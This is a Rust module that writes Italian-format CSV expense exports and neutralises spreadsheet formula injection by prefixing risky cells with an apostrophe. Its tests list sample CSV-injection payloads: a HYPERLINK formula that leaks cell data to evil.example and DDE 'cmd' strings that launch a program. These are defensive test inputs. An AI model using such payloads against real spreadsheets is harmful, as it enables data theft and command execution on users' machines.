//! CSV as Italian spreadsheets read it (`;`, CRLF, a BOM so Excel takes it as UTF-8), with every
//! cell that a spreadsheet would run as a formula neutralised. A supplier name such as
//! `=HYPERLINK("http://…";"Clicca")` comes from an imported file, not from us: OWASP's advice on
//! CSV injection is to prefix cells starting with `=`, `+`, `-`, `@`, a tab or a carriage return
//! with `'`, which spreadsheets show as text. Numbers (`-1.234,56`) are left as they are, so credit
//! notes stay negative amounts. The expense list's export is written here, beside the XLSX and PDF.

use std::borrow::Cow;
use std::collections::HashMap;

use super::ReportError;
use crate::domain::text::{is_plain_number, italian_date};
use crate::domain::{EntityId, Expense, Money};

/// The characters that make a spreadsheet read a cell as a formula (or hide one after them).
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as it is safe to write: prefixed with `'` when a spreadsheet would run it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if TRIGGERS.contains(&first) && !is_plain_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// A CSV writer whose every cell goes through [`neutralise`].
pub struct SafeCsv {
    out: ::csv::Writer<Vec<u8>>,
}

impl SafeCsv {
    /// `;`-separated, CRLF, starting with a UTF-8 BOM.
    pub fn new() -> SafeCsv {
        SafeCsv {
            out: ::csv::WriterBuilder::new()
                .delimiter(b';')
                .terminator(::csv::Terminator::CRLF)
                .from_writer(Vec::from("\u{feff}".as_bytes())),
        }
    }

    pub fn row<I, S>(&mut self, cells: I) -> Result<(), ::csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.out.write_record(
            cells
                .into_iter()
                .map(|c| neutralise(c.as_ref()).into_owned()),
        )
    }

    pub fn finish(self) -> Result<Vec<u8>, ::csv::Error> {
        self.out
            .into_inner()
            .map_err(|e| ::csv::Error::from(e.into_error()))
    }
}

/// The expenses as a CSV Italian Excel opens directly: `;` between fields, decimal comma, dates
/// as dd/mm/yyyy, UTF-8 with a byte-order mark; `entity_names` names each expense's entity and
/// `category_names` its category, as the call names it.
pub fn expenses_csv(
    expenses: &[Expense],
    entity_names: &HashMap<EntityId, String>,
    category_names: &HashMap<String, String>,
) -> Result<Vec<u8>, ReportError> {
    let failed = |e: ::csv::Error| ReportError::Csv(e.to_string());
    let mut out = SafeCsv::new();
    out.row([
        "N.",
        "Ente",
        "Categoria",
        "Fornitore",
        "Partita IVA",
        "Tipo",
        "Numero",
        "Data",
        "Descrizione",
        "Imponibile",
        "IVA",
        "Rendicontato",
        "Data pagamento",
        "Stato",
    ])
    .map_err(failed)?;
    let amount = |m: Money| m.to_decimal().to_string().replace('.', ",");
    for e in expenses {
        let d = &e.data;
        out.row([
            e.id.to_string(),
            entity_names.get(&d.entity_id).cloned().unwrap_or_default(),
            d.category
                .as_ref()
                .map(|c| {
                    category_names
                        .get(c.as_str())
                        .cloned()
                        .unwrap_or_else(|| c.as_str().to_owned())
                })
                .unwrap_or_default(),
            d.document.supplier_name.clone(),
            d.document
                .supplier_vat
                .as_ref()
                .map(ToString::to_string)
                .unwrap_or_default(),
            d.document.kind.italian().to_owned(),
            d.document.number.clone(),
            italian_date(d.document.date),
            d.description.clone(),
            amount(d.amounts.net()),
            amount(d.amounts.vat()),
            amount(d.signed(d.amounts.claimed())),
            d.payment.paid_on.map(italian_date).unwrap_or_default(),
            e.status.italian().to_owned(),
        ])
        .map_err(failed)?;
    }
    out.finish().map_err(failed)
}

impl Default for SafeCsv {
    fn default() -> SafeCsv {
        SafeCsv::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for attack in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Clicca\")",
            "+cmd|' /C calc'!A0",
            "@SUM(A1:A2)",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ] {
            assert_eq!(neutralise(attack), format!("'{attack}"));
        }
        for plain in ["-1.234,56", "-100,00", "1234", "Alfa S.r.l.", "", "a=b"] {
            assert_eq!(neutralise(plain), plain);
        }
    }

    #[test]
    fn every_written_cell_is_neutralised() {
        let mut csv = SafeCsv::new();
        csv.row(["=1+1", "-5,00", "ok"]).expect("row");
        let text = String::from_utf8(csv.finish().expect("bytes")).expect("utf-8");
        assert_eq!(text, "\u{feff}'=1+1;-5,00;ok\r\n");
    }
}
